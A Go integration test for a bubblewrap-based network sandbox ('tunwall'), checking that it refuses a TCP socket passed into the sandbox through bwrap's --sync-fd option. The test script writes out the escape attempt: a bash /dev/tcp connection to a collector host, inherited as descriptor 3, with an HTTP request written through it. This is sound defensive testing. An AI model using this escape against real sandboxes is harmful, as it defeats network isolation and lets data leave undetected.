package integration

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"
)

// TestCLIBwrapFollowsBubblewrap: `tunwall bwrap -- --version` and `--help`
// reach bwrap; a descriptor option cannot hand the sandbox a network.
func TestCLIBwrapFollowsBubblewrap(t *testing.T) {
	requireTools(t, "bwrap", "bash")
	w := newWorld(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	for _, arg := range []string{"--version", "--help"} {
		out, err := w.AgentCommand(ctx, tunwallBin, "bwrap", "--", arg).CombinedOutput()
		if err != nil || !strings.Contains(string(out), map[string]string{"--version": "bubblewrap", "--help": "--ro-bind"}[arg]) {
			t.Errorf("tunwall bwrap -- %s: %v\n%s", arg, err, out)
		}
	}

	// The attack: whoever builds the command line opens a TCP connection to
	// the collector as descriptor 3 and names it in a bwrap option
	// (--sync-fd: bwrap keeps it, and its command inherits it). The
	// sandbox then writes to it: a way out past the TUN.
	script := `exec 3<>/dev/tcp/192.0.2.66/80 || exit 99
exec "$TUNWALL" bwrap --dns-upstream 192.0.2.53:53 --audit off --allow allowed.test -- \
  --ro-bind / / --dev /dev --proc /proc --sync-fd 3 -- \
  sh -c 'printf "GET /escaped-through-sync-fd HTTP/1.0\r\nHost: escaped.sync-fd\r\n\r\n" >&3; echo wrote'`
	cmd := w.AgentCommand(ctx, "bash", "-c", script)
	cmd.Env = append(os.Environ(), "TUNWALL="+tunwallBin)
	out, err := cmd.CombinedOutput()
	code := 0
	if err != nil {
		code = cmd.ProcessState.ExitCode()
	}
	t.Logf("exit %d\n%s", code, out)
	if code != 2 || !strings.Contains(string(out), "network socket") {
		t.Errorf("a TCP socket named by --sync-fd: exit %d, want 2 and a refusal naming the socket\n%s", code, out)
	}
	// Were it written, the collector logs the request's Host; poll for it
	// (bounded) so that an unfixed tunwall shows the escape.
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		for _, a := range w.Arrivals("evil") {
			if a.Host == "escaped.sync-fd" {
				t.Fatalf("the sandbox reached the collector through the inherited socket: %+v", a)
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
}
